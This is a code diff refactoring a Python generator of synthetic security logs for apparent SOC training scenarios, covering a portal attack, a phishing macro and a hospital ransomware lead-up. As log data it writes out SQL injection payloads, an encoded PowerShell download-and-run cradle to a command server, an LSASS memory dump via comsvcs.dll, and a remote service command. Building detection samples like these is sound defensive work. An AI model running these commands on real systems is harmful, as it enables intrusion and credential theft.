@@ -30,7 +30,6 @@ from soc.app.sample.cast import (
     SCANNER,
     TINH,
     YEN_SON,
-    Host,
 )
 from soc.app.sample.clock import at
 from soc.app.sample.lines import cef, eve, fortigate, nginx, traffic
@@ -137,6 +136,14 @@ def _one_stop(book: Logbook, rng: random.Random, on: date) -> Story:
     )
 
 
+_INJECTIONS = (
+    "'%20OR%20'1'%3D'1",
+    "1%20UNION%20SELECT%20NULL%2CNULL%2CNULL--%20-",
+    "1%27%20UNION%20ALL%20SELECT%20table_name%2C2%20FROM%20information_schema.tables--%20-",
+    "1%20AND%20SLEEP%285%29",
+)
+
+
 def _portal(book: Logbook, rng: random.Random, on: date) -> Story:
     """The public-service portal is scanned, its search is injected, and a script lands in the upload folder."""
     moment = first = at(on, "13:05:20")
@@ -163,14 +170,8 @@ def _portal(book: Logbook, rng: random.Random, on: date) -> Story:
         path = f"/{rng.choice(words)}-{number}{rng.choice(('', '/', '.php', '.bak', '.zip', '.old'))}"
         request(f"GET {path}", 404, 548, "Mozilla/5.00 (Nikto/2.5.0)")
         moment += timedelta(milliseconds=rng.randrange(300, 2_500))
-    injections = (
-        "'%20OR%20'1'%3D'1",
-        "1%20UNION%20SELECT%20NULL%2CNULL%2CNULL--%20-",
-        "1%27%20UNION%20ALL%20SELECT%20table_name%2C2%20FROM%20information_schema.tables--%20-",
-        "1%20AND%20SLEEP%285%29",
-    )
     for number in range(60):
-        request(f"GET /tra-cuu-ho-so?ma={injections[number % 4]}", (500, 200)[number % 3 == 0], 1_900, tool)
+        request(f"GET /tra-cuu-ho-so?ma={_INJECTIONS[number % 4]}", (500, 200)[number % 3 == 0], 1_900, tool)
         if number % 12 == 0:
             _sees_injection(book, moment, number)
         moment += timedelta(seconds=rng.randrange(1, 9))
@@ -210,59 +211,17 @@ def _sees_injection(book: Logbook, moment: datetime, number: int) -> None:
     book.line(SURICATA, moment, text)
 
 
+_WORD = "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE"
+_SHELL = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
+
+
 def _phishing(book: Logbook, on: date) -> Story:
     """A macro runs encoded PowerShell, the memory of LSASS is dumped, and a service carries the attacker on."""
-    word = "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE"
-    shell = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
-    letter = "C:\\Users\\nt.vidu\\Downloads\\Giấy mời họp khẩn.docm"
-    script = f"IEX (New-Object Net.WebClient).DownloadString('http://{COMMAND_SERVER}/tai-lieu')"
-    encoded = base64.b64encode(script.encode("utf-16-le")).decode()
-    clock = at(on, "08:47:10")
-    first = clock
-
-    def run(host: Host, seconds: float, event: Callable[[datetime], WinEvent]) -> None:
-        moment = clock + timedelta(seconds=seconds)
-        book.windows(moment, host, event(moment))
-
-    run(CLERK, 0, lambda m: process(CLERK, m, word, f'"{word}" /n "{letter}"', "C:\\Windows\\explorer.exe", 5_212))
-    command = f"powershell.exe -NoP -W Hidden -enc {encoded}"
-    run(CLERK, 14, lambda m: process(CLERK, m, shell, command, word, 6_120))
-    data = {"MessageNumber": 1, "MessageTotal": 1, "ScriptBlockText": script, "ScriptBlockId": "7f0c1d52", "Path": ""}
-    channel = "Microsoft-Windows-PowerShell/Operational"
-    run(CLERK, 15, lambda _: WinEvent("Microsoft-Windows-PowerShell", channel, 4104, data, 3))
-    run(
-        CLERK,
-        17,
-        lambda m: sysmon(
-            3, m, ProcessId=6_120, Image=shell, User="TINH\\nt.vidu", Protocol="tcp", Initiated="true",
-            SourceIp=CLERK.ip, SourcePort=50_212, DestinationIp=COMMAND_SERVER, DestinationPort=80,
-            DestinationHostname="-",
-        ),
-    )  # fmt: skip
-    dump = "C:\\Windows\\Temp\\bao-cao.dmp"
-    command = f"rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 664 {dump} full"
-    run(CLERK, 1_980, lambda m: process(CLERK, m, "rundll32.exe", command, shell, 6_604, "NT AUTHORITY\\SYSTEM"))
-    run(
-        CLERK,
-        1_981,
-        lambda m: sysmon(
-            10, m, SourceProcessId=6_604, SourceThreadId=812, SourceImage="C:\\Windows\\System32\\rundll32.exe",
-            TargetProcessId=664, TargetImage="C:\\Windows\\System32\\lsass.exe", GrantedAccess="0x1FFFFF",
-            CallTrace="C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\System32\\comsvcs.dll+1b8ee",
-            SourceUser="NT AUTHORITY\\SYSTEM", TargetUser="NT AUTHORITY\\SYSTEM",
-        ),
-    )  # fmt: skip
-    run(FILES, 3_660, lambda _: logon(FILES, "quantri.mx", 3, CLERK.ip, package="NTLM"))
-    path = "%COMSPEC% /Q /c echo whoami ^> \\\\127.0.0.1\\C$\\__ket-qua 2^>^&1 > %TEMP%\\cap-nhat.bat"
-    service = {
-        "ServiceName": "CapNhatHeThong",
-        "ImagePath": path,
-        "ServiceType": "user mode service",
-        "StartType": "demand start",
-        "AccountName": "LocalSystem",
-    }
-    run(FILES, 3_664, lambda _: WinEvent("Service Control Manager", "System", 7045, service))
-    run(FILES, 3_668, lambda m: process(FILES, m, "cmd.exe", f'cmd.exe /Q /c "{path}"', "services.exe", 3_320))
+    first = at(on, "08:47:10")
+    last = first + timedelta(seconds=3_668)
+    _macro(book, first)
+    _memory_dumped(book, first + timedelta(seconds=1_980))
+    _service_installed(book, last)
     return Story(
         id="giay-moi-hop",
         title_vi="Thư lừa đảo có macro tại phường Minh Xuân: trích xuất mật khẩu và lây lan ngang",
@@ -270,7 +229,7 @@ def _phishing(book: Logbook, on: date) -> Story:
         unit=MINH_XUAN,
         hosts=(CLERK.name, FILES.name),
         first=first,
-        last=clock + timedelta(seconds=3_668),
+        last=last,
         techniques=("T1566.001", "T1204.002", "T1059.001", "T1003.001", "T1569.002", "T1021.002"),
         rules=(
             "windows/execution_office_starts_shell",
@@ -283,45 +242,63 @@ def _phishing(book: Logbook, on: date) -> Story:
     )
 
 
+def _macro(book: Logbook, opened: datetime) -> None:
+    letter = "C:\\Users\\nt.vidu\\Downloads\\Giấy mời họp khẩn.docm"
+    script = f"IEX (New-Object Net.WebClient).DownloadString('http://{COMMAND_SERVER}/tai-lieu')"
+    encoded = base64.b64encode(script.encode("utf-16-le")).decode()
+    parent = "C:\\Windows\\explorer.exe"
+    book.windows(opened, CLERK, process(CLERK, opened, _WORD, f'"{_WORD}" /n "{letter}"', parent, 5_212))
+    then = opened + timedelta(seconds=14)
+    command = f"powershell.exe -NoP -W Hidden -enc {encoded}"
+    book.windows(then, CLERK, process(CLERK, then, _SHELL, command, _WORD, 6_120))
+    data = {"MessageNumber": 1, "MessageTotal": 1, "ScriptBlockText": script, "ScriptBlockId": "7f0c1d52", "Path": ""}
+    channel = "Microsoft-Windows-PowerShell/Operational"
+    then = opened + timedelta(seconds=15)
+    book.windows(then, CLERK, WinEvent("Microsoft-Windows-PowerShell", channel, 4104, data, 3))
+    then = opened + timedelta(seconds=17)
+    connected = sysmon(
+        3, then, ProcessId=6_120, Image=_SHELL, User="TINH\\nt.vidu", Protocol="tcp", Initiated="true",
+        SourceIp=CLERK.ip, SourcePort=50_212, DestinationIp=COMMAND_SERVER, DestinationPort=80,
+        DestinationHostname="-",
+    )  # fmt: skip
+    book.windows(then, CLERK, connected)
+
+
+def _memory_dumped(book: Logbook, moment: datetime) -> None:
+    dump = "C:\\Windows\\Temp\\bao-cao.dmp"
+    command = f"rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 664 {dump} full"
+    started = process(CLERK, moment, "rundll32.exe", command, _SHELL, 6_604, "NT AUTHORITY\\SYSTEM")
+    book.windows(moment, CLERK, started)
+    then = moment + timedelta(seconds=1)
+    opened = sysmon(
+        10, then, SourceProcessId=6_604, SourceThreadId=812, SourceImage="C:\\Windows\\System32\\rundll32.exe",
+        TargetProcessId=664, TargetImage="C:\\Windows\\System32\\lsass.exe", GrantedAccess="0x1FFFFF",
+        CallTrace="C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\System32\\comsvcs.dll+1b8ee",
+        SourceUser="NT AUTHORITY\\SYSTEM", TargetUser="NT AUTHORITY\\SYSTEM",
+    )  # fmt: skip
+    book.windows(then, CLERK, opened)
+
+
+def _service_installed(book: Logbook, last: datetime) -> None:
+    """The attacker logs on to the file server and runs a command as a service; `last` is when the command starts."""
+    book.windows(last - timedelta(seconds=8), FILES, logon(FILES, "quantri.mx", 3, CLERK.ip, package="NTLM"))
+    path = "%COMSPEC% /Q /c echo whoami ^> \\\\127.0.0.1\\C$\\__ket-qua 2^>^&1 > %TEMP%\\cap-nhat.bat"
+    service = {
+        "ServiceName": "CapNhatHeThong",
+        "ImagePath": path,
+        "ServiceType": "user mode service",
+        "StartType": "demand start",
+        "AccountName": "LocalSystem",
+    }
+    installed = WinEvent("Service Control Manager", "System", 7045, service)
+    book.windows(last - timedelta(seconds=4), FILES, installed)
+    book.windows(last, FILES, process(FILES, last, "cmd.exe", f'cmd.exe /Q /c "{path}"', "services.exe", 3_320))
+
+
 def _hospital(book: Logbook, rng: random.Random, on: date) -> Story:
     """The recorder belongs to a botnet, its neighbours are scanned, the hospital server is made ready to encrypt."""
-    moment = first = at(on, "00:40:00")
-    for _ in range(170):  # every 50 to 60 seconds: the recorder calls its master by telnet, the firewall denies
-        moment += timedelta(seconds=rng.randrange(50, 61))
-        fields = traffic(
-            "deny", (CAMERAS.ip, rng.randrange(40_000, 60_000)), (BOT_MASTER, 23), proto=6, service="TELNET"
-        )
-        book.line(FORTIGATE, moment, _session(moment, fields))
-    last = moment
-    moment = at(on, "02:18:00")
-    for port in (
-        21,
-        22,
-        23,
-        80,
-        81,
-        135,
-        139,
-        389,
-        443,
-        445,
-        554,
-        1433,
-        1521,
-        3306,
-        3389,
-        5432,
-        5900,
-        5985,
-        8000,
-        8080,
-        8443,
-    ):
-        moment += timedelta(seconds=rng.randrange(1, 4))
-        source = (CAMERAS.ip, rng.randrange(40_000, 60_000))
-        fields = traffic("deny", source, (HOSPITAL.ip, port), proto=6, service=f"tcp/{port}")
-        fields |= {"dstintf": "dmz", "dstintfrole": "dmz"}
-        book.line(FORTIGATE, moment, _session(moment, fields))
+    first = at(on, "00:40:00")
+    last = _recorder(book, rng, first)
     fields = {
         "cat": "Malware", "dhost": RECEPTION.name, "dst": RECEPTION.ip, "duser": RECEPTION.user,
         "fname": "bang-luong-thang-11.exe", "filePath": f"C:\\Users\\{RECEPTION.user}\\Downloads",
@@ -351,6 +328,48 @@ def _hospital(book: Logbook, rng: random.Random, on: date) -> Story:
             "windows/impact_ransomware_preparation",
         ),
     )
+
+
+def _recorder(book: Logbook, rng: random.Random, first: datetime) -> datetime:
+    """The recorder's own lines; when the last of its calls is."""
+    moment = first
+    for _ in range(170):  # every 50 to 60 seconds: the recorder calls its master by telnet, the firewall denies
+        moment += timedelta(seconds=rng.randrange(50, 61))
+        fields = traffic(
+            "deny", (CAMERAS.ip, rng.randrange(40_000, 60_000)), (BOT_MASTER, 23), proto=6, service="TELNET"
+        )
+        book.line(FORTIGATE, moment, _session(moment, fields))
+    last = moment
+    moment = first + timedelta(minutes=98)
+    for port in (
+        21,
+        22,
+        23,
+        80,
+        81,
+        135,
+        139,
+        389,
+        443,
+        445,
+        554,
+        1433,
+        1521,
+        3306,
+        3389,
+        5432,
+        5900,
+        5985,
+        8000,
+        8080,
+        8443,
+    ):
+        moment += timedelta(seconds=rng.randrange(1, 4))
+        source = (CAMERAS.ip, rng.randrange(40_000, 60_000))
+        fields = traffic("deny", source, (HOSPITAL.ip, port), proto=6, service=f"tcp/{port}")
+        fields |= {"dstintf": "dmz", "dstintfrole": "dmz"}
+        book.line(FORTIGATE, moment, _session(moment, fields))
+    return last
 
 
 def _before_encryption(book: Logbook, moment: datetime) -> None:
